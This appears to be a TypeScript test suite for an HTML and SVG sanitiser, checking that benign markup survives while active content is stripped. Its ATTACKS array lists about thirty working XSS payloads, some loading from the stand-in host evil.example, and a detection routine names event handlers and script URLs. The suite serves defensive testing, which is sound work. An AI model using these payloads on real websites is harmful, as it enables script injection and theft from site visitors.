// Pages and drawings of others, in which nothing may run, ask or load.

import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { type DefaultTreeAdapterTypes, parse } from 'parse5';
import { inertHtml } from '../../scripts/writers/inert/inert-html.ts';
import { inertSvg } from '../../scripts/writers/inert/inert-svg.ts';

const bodyOf = (html: string): string => /<body>\n([\s\S]*)\n<\/body>/.exec(inertHtml(html))?.[1] ?? '';

test('a page keeps its words, headings, lists, tables and links', () => {
  const page =
    '<h1>Budget</h1><p>See <a href="https://example.org/?a=1&amp;b=2">the <b>code</b></a> &lt;5&gt;</p>' +
    '<table><tbody><tr><td colspan="2">7</td></tr></tbody></table><ol start="3"><li>c</li></ol>';
  assert.equal(bodyOf(page), page);
  assert.match(
    inertHtml('<html lang="cy"><title>A < B</title><p>x'),
    /<html lang="cy">[\s\S]*<title>A &lt; B<\/title>/,
  );
});

test('what stands in an element that is not kept is kept', () => {
  assert.equal(
    bodyOf('<form action="/x"><center>Name <font color="red">here</font></center></form>'),
    'Name here',
  );
});

/** Each would run, ask or load in a browser. */
const ATTACKS = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><set attributeName="href" to="javascript:alert(1)"/></svg>',
  '<svg><animate attributeName="href" values="javascript:alert(1)"/></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
  '<svg><use href="data:image/svg+xml;base64,PHN2Zz4="/></svg>',
  '<svg><image href="https://evil.example/x.png"/></svg>',
  '<svg><style>@import url(//evil.example/x.css)</style></svg>',
  '<svg><rect style="fill:url(https://evil.example/x#y)" fill="url(//evil.example/x#y)"/></svg>',
  '<svg><style>rect{background:\\75rl(https://evil.example)}</style></svg>',
  '<svg><title><img src=x onerror=alert(1)></title></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" java\nscript:alert(1)">x</a>',
  '<a href="&#1;javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:x" ping="//evil.example">x</a>',
  '<iframe src="https://evil.example"></iframe>',
  '<object data="x.svg"></object><embed src="x.swf">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/"><link rel="stylesheet" href="//evil.example/x.css">',
  '<form action="https://evil.example"><input name=a><button formaction="javascript:alert(1)">x</button></form>',
  '<p style="background:url(https://evil.example)">x</p><body background="//evil.example/x.png">',
  '<video src="//evil.example/x" autoplay><source src=x onerror=alert(1)></video>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><script>alert(1)</script></template><textarea></textarea><img src=x onerror=alert(1)>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<details open ontoggle=alert(1)>x</details>',
];

const ACTS =
  /<(?:script|iframe|object|embed|form|input|button|meta http-equiv="refresh"|base|link|animate|set|foreignobject)\b/i;

/** Everything of a written page that would act, found by a parser of HTML. */
function actsIn(html: string): readonly string[] {
  const found: string[] = [];
  const visit = (node: DefaultTreeAdapterTypes.Node): void => {
    if ('attrs' in node)
      for (const { name, value } of node.attrs)
        if (
          /^on|^(?:srcdoc|action|formaction|ping|background)$/i.test(name) ||
          /evil\.example|^\s*(?:java|vb)script:|data:(?!image\/(?:png|jpe?g|gif|webp);)/i.test(
            value.replace(/[\s\u0001]/g, ''),
          )
        )
          found.push(`${node.nodeName} ${name}`);
    if ('tagName' in node && ACTS.test(`<${node.tagName} `)) found.push(node.tagName);
    if (
      'tagName' in node &&
      node.tagName === 'style' &&
      /evil/.test(JSON.stringify(node.childNodes.map(one => ('value' in one ? one.value : ''))))
    )
      found.push('style');
    if ('childNodes' in node) node.childNodes.forEach(visit);
  };
  visit(parse(html));
  return found;
}

describe('nothing acts', () => {
  for (const attack of ATTACKS)
    test(attack.replace(/\s+/g, ' '), () => {
      const drawing = attack.startsWith('<svg') ? attack : `<svg>${attack}</svg>`;
      // The page's own policy is the one that we write.
      const written = inertHtml(attack).replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/, '');
      for (const one of [written, inertSvg(drawing), inertSvg(attack), inertHtml(`<p>${attack}`)])
        assert.deepEqual(
          actsIn(one.replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/, '')),
          [],
          one,
        );
      // What is written is read as it was written: a second cleaning changes nothing.
      assert.equal(inertHtml(inertHtml(attack)), inertHtml(attack));
      assert.ok(
        actsIn(attack).length > 0 || /noscript|<!--|title|textarea|math|\\/.test(attack),
        'the attack itself is seen',
      );
    });
});

test('a drawing keeps its shapes, words, colours and what it names within itself', () => {
  const drawing =
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><defs><linearGradient id="a"><stop offset="0"></stop></linearGradient></defs>' +
    '<style>.b{fill:red}</style><rect class="b" width="9" fill="url(#a)"></rect><text x="1">A &lt; B</text><use href="#a"></use></svg>\n';
  assert.equal(inertSvg(`<?xml version="1.0"?><!DOCTYPE svg>${drawing}`), drawing);
});

test('a page of ten thousand elements within each other is cut short, not an end of the build', () => {
  assert.ok(inertHtml('<div>'.repeat(10_000)).length > 100);
});

test('a page in which a hundred thousand elements nest is shown as it is typed, one of four hundred as it is meant', () => {
  const nested = (depth: number): string => `${'<div>'.repeat(depth)}Larkspur <b onclick="a()">x</b>`;
  const deep = inertHtml(nested(100_000));
  assert.match(deep, /<pre>&lt;div[^<]*Larkspur &lt;b onclick=[^<]*<\/pre>/);
  assert.match(inertHtml(nested(400)), /<div>Larkspur <b>x<\/b><\/div>/);
});
